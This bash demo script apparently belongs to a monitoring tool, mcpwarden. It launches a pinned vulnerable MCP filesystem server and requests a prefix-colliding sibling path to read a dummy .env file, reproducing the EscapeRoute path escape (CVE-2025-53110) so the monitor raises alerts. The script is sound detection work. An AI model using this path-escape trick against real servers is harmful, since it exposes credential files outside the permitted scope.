#!/usr/bin/env bash
# make demo: use a vulnerable MCP server and watch mcpwarden flag it.
#
#   tests/demo/escape_route.sh [DIR]        (default DIR: /tmp/mcpwarden-demo)
#
# Starts @modelcontextprotocol/server-filesystem 2025.3.28 (pinned in tests/e2e/vulnerable),
# allowed DIR/allowed only, and asks it with the official SDK client for DIR/allowed/notes.txt
# (fine) and then for DIR/allowed_evil/.env: a prefix-colliding sibling (EscapeRoute,
# CVE-2025-53110) that this release serves. Run `make run` in another terminal first: its
# console shows the two calls, the open of .env and the alerts file.out_of_scope and
# file.sensitive naming tools/call read_file and its id.
set -euo pipefail

here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
e2e="$here/../e2e"
dir=${1:-/tmp/mcpwarden-demo}
server="$e2e/vulnerable/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js"

"$e2e/install.sh" >/dev/null
[ -f "$server" ] || { echo "demo: $server is missing" >&2; exit 1; }
rm -rf "$dir"
mkdir -p "$dir/allowed" "$dir/allowed_evil"
echo "meeting notes" >"$dir/allowed/notes.txt"
echo "API_KEY=demo-not-a-real-key" >"$dir/allowed_evil/.env"
cat >"$dir/spec.json" <<SPEC
{"server": ["node", "$server", "$dir/allowed"],
 "calls": [{"tool": "read_file", "arguments": {"path": "$dir/allowed/notes.txt"}},
           {"tool": "read_file", "arguments": {"path": "$dir/allowed_evil/.env"}}]}
SPEC
node "$e2e/clients/policy_client.mjs" --spec "$dir/spec.json" --summary "$dir/summary.json" \
	--record "$dir/record.json" --pidfile "$dir/server.pid"
python3 - "$dir/summary.json" <<'PY'
import json, sys
s = json.load(open(sys.argv[1]))
print("demo: server pid %d; the client asked:" % s["serverPid"])
for c in s["calls"]:
    print("  tools/call %s id=%s %s -> %s" % (c["tool"], c["id"], c["arguments"]["path"],
          ("error: " if c["isError"] else "") + c["text"].strip()[:60]))
print("demo: the server served a file outside its allowed folder; mcpwarden's console "
      "(make run) shows the alerts for that call.")
PY
